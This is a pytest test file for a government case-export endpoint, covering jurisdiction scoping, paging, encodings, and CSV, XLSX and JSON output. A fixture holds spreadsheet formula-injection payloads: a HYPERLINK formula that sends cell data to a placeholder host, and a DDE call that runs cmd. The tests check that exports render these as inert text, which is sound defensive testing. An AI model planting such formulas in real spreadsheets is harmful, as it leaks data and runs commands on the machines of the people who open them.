"""Exports of an authority's cases (`GET /v1/inbox/export`): the inbox's cases and filters,
whoever asks, in each format, with text a spreadsheet could evaluate written as text."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from urllib.parse import quote

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from ladder.review.exports.schemas import CASE_COLUMNS

EXPORT = "/v1/inbox/export"
GULOU, TAIJIANG, PUDONG = "350102", "350103", "310115"  # 福州鼓楼, 福州台江, 上海浦东
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击查看")'
HEADERS = [c.header for c in CASE_COLUMNS]


async def _case(make_event, deliver, **payload) -> str:
    event = make_event(**payload)
    resp = await deliver(event)
    assert resp.status_code == 200, resp.text
    return event["payload"]["declaration_id"]


async def _export(client, headers, fmt: str = "json", **params):
    return await client.get(EXPORT, params={"format": fmt, **params}, headers=headers)


async def _ids(client, headers, **params) -> list[str]:
    resp = await _export(client, headers, **params)
    assert resp.status_code == 200, resp.text
    return [row["declaration_id"] for row in resp.json()]


@pytest.fixture
async def three_regions(make_event, deliver) -> dict[str, str]:
    return {
        region: await _case(make_event, deliver, region_code=region)
        for region in (GULOU, TAIJIANG, PUDONG)
    }


@pytest.mark.parametrize(
    ("role", "region", "sees"),
    [
        ("county", GULOU, {GULOU}),
        ("county", TAIJIANG, {TAIJIANG}),
        ("city", "350100", {GULOU, TAIJIANG}),  # 福州市
        ("province", "350000", {GULOU, TAIJIANG}),  # 福建省
        ("province", "310000", {PUDONG}),  # 上海市
        ("city", "350200", set()),  # 厦门市
        ("ministry", None, {GULOU, TAIJIANG, PUDONG}),
    ],
)
async def test_each_authority_exports_its_jurisdiction_only(
    client, issuer, three_regions, role, region, sees
):
    headers = issuer.headers(role, region=region) if region else issuer.headers(role)
    exported = await _ids(client, headers, held="false")
    assert sorted(exported) == sorted(three_regions[r] for r in sees)


@pytest.mark.parametrize(
    ("role", "region", "held"),
    [
        ("county", GULOU, "true"),
        ("county", GULOU, "false"),
        ("city", "350100", "true"),  # holds none yet: they wait at their county
        ("city", "350100", "false"),
        ("ministry", None, "true"),  # holds no chain level: empty
        ("ministry", None, "false"),
    ],
)
async def test_the_export_is_the_inbox_every_page_in_its_order(
    client, issuer, make_event, deliver, role, region, held
):
    await _case(make_event, deliver, region_code=GULOU, tier="pilot")
    for _ in range(3):
        await _case(make_event, deliver, region_code=GULOU)
    await _case(make_event, deliver, region_code=TAIJIANG)
    headers = issuer.headers(role, region=region) if region else issuer.headers(role)
    for filters in ({}, {"tier": "pilot"}, {"status": "awaiting_initial_review"},
                    {"status": "recommended"}):  # fmt: skip
        listed, page = [], 1
        while True:
            resp = await client.get(
                "/v1/inbox",
                params={"held": held, "page": page, "page_size": 2, **filters},
                headers=headers,
            )
            assert resp.status_code == 200, resp.text
            listed += [i["declaration_id"] for i in resp.json()["items"]]
            if page * 2 >= resp.json()["total"]:
                break
            page += 1
        assert await _ids(client, headers, held=held, **filters) == listed, filters


@pytest.mark.parametrize("role", ["enterprise", "expert", "public", "service"])
async def test_only_authorities_export_cases(client, issuer, three_regions, role):
    headers = issuer.headers(role, org="91350100M000100Y43", region=GULOU)
    resp = await _export(client, headers)
    assert resp.status_code == 403
    assert resp.json()["error"]["code"] == "forbidden"
    anonymous = await _export(client, {})
    assert anonymous.status_code == 401
    assert anonymous.json()["error"]["code"] == "unauthenticated"


@pytest.mark.parametrize("params", [{}, {"format": "pdf"}, {"format": "csv", "encoding": "gbk"},
                                    {"format": "json", "status": "nonsense"}])  # fmt: skip
async def test_a_format_is_required_and_checked(client, issuer, params):
    resp = await client.get(EXPORT, params=params, headers=issuer.headers("ministry"))
    assert resp.status_code == 422
    assert resp.json()["error"]["code"] == "validation_error"


@pytest.fixture
async def hostile_case(make_event, deliver) -> str:
    """A Gulou case whose enterprise typed a formula as its name, its factory a DDE call."""
    return await _case(
        make_event,
        deliver,
        region_code=GULOU,
        enterprise_name=HYPERLINK,
        factory_name="@SUM(1+1)*cmd|' /C calc'!A0",
        submitted_at=datetime(2025, 7, 1, 2, 0, tzinfo=UTC).isoformat(),
    )


async def test_csv_has_the_bom_the_chinese_headers_and_formulas_as_text(
    client, issuer, hostile_case
):
    resp = await _export(client, issuer.headers("county", region=GULOU), "csv")
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"] == "text/csv; charset=utf-8"
    assert resp.content.startswith(b"\xef\xbb\xbf")
    header, row = csv.reader(io.StringIO(resp.content.decode("utf-8-sig"), newline=""))
    assert header == HEADERS
    line = dict(zip([c.key for c in CASE_COLUMNS], row, strict=True))
    assert line["declaration_id"] == hostile_case
    assert line["enterprise_name"] == "'" + HYPERLINK
    assert line["factory_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (line["status"], line["status_label"]) == ("awaiting_initial_review", "待初审")
    assert line["submitted_at"] == "2025-07-01T10:00:00+08:00"  # Beijing time
    assert (line["level"], line["holder_region"], line["recommending_unit"]) == (
        "county",
        GULOU,
        "350000",
    )
    disposition = resp.headers["content-disposition"]
    assert re.search(
        rf"filename\*=UTF-8''{quote('待办案件-' + GULOU)}-20\d{{6}}\.csv$", disposition
    )


async def test_csv_in_gb18030_on_request(client, issuer, make_event, deliver):
    await _case(make_event, deliver, region_code=GULOU, enterprise_name="福州䶮𠀀智造有限公司")
    resp = await _export(client, issuer.headers("county", region=GULOU), "csv", encoding="gb18030")
    assert resp.headers["content-type"] == "text/csv; charset=gb18030"
    rows = list(csv.reader(io.StringIO(resp.content.decode("gb18030"), newline="")))
    assert rows[0] == HEADERS and rows[1][4] == "福州䶮𠀀智造有限公司"


async def test_xlsx_cells_of_typed_text_are_text_never_formulas(client, issuer, hostile_case):
    resp = await _export(client, issuer.headers("county", region=GULOU), "xlsx")
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert resp.headers["content-disposition"].startswith('attachment; filename="inbox-350102-')
    sheet = load_workbook(io.BytesIO(resp.content)).active
    assert sheet.title == "申报案件"
    assert [c.value for c in sheet[1]] == HEADERS
    cells = {c.key: cell for c, cell in zip(CASE_COLUMNS, sheet[2], strict=True)}
    for key, value in (("enterprise_name", HYPERLINK),
                       ("factory_name", "@SUM(1+1)*cmd|' /C calc'!A0")):  # fmt: skip
        assert (cells[key].value, cells[key].data_type, cells[key].quotePrefix) == (
            value,
            "s",
            True,
        )
    assert cells["declaration_id"].value == hostile_case
    assert cells["status_label"].value == "待初审"
    assert (cells["campaign_year"].value, cells["campaign_year"].data_type) == (2025, "n")
    assert cells["submitted_at"].value == datetime(2025, 7, 1, 10, 0)


async def test_json_rows_are_typed_and_exact(client, issuer, hostile_case):
    resp = await _export(client, issuer.headers("county", region=GULOU), "json")
    assert resp.headers["content-type"] == "application/json"
    (row,) = resp.json()
    assert list(row) == [c.key for c in CASE_COLUMNS]
    assert row["enterprise_name"] == HYPERLINK  # data, not a sheet
    assert (row["campaign_year"], row["version"], row["central_soe_group"]) == (2025, 1, None)
    assert row["submitted_at"] == "2025-07-01T10:00:00+08:00"


async def test_thousands_of_cases_come_out_whole_through_the_cursor(client, issuer):
    """More rows than one fetch of the cursor (1,000), written straight into the table."""
    n = 2_345
    async with client.app.state.db.transaction() as session:
        await session.execute(
            text(
                "INSERT INTO review.review_case (id, declaration_id, campaign_year, tier, "
                "enterprise_uscc, enterprise_name, factory_name, region_code, version, "
                "fingerprint, status, level, holder_region, recommending_unit, details, "
                "submitted_at, received_at) "
                "SELECT gen_random_uuid(), gen_random_uuid(), 2025, 'excellence', "
                "'91350100M000100Y43', '福州企业' || g, '工厂' || g, '350102', 1, "
                "repeat('0', 64), 'awaiting_initial_review', 'county', '350102', '350000', "
                "'{}', now(), now() + g * interval '1 second' FROM generate_series(1, :n) g"
            ),
            {"n": n},
        )
    headers = issuer.headers("province", region="350000")
    rows = (await _export(client, headers, held="false")).json()
    assert [r["enterprise_name"] for r in rows] == [f"福州企业{g}" for g in range(1, n + 1)]
    csv_rows = (await _export(client, headers, "csv", held="false")).content.decode("utf-8-sig")
    assert len(csv_rows.splitlines()) == n + 1
    sheet = load_workbook(
        io.BytesIO((await _export(client, headers, "xlsx", held="false")).content)
    )
    assert sheet.active.max_row == n + 1
    assert len({r["declaration_id"] for r in rows}) == n
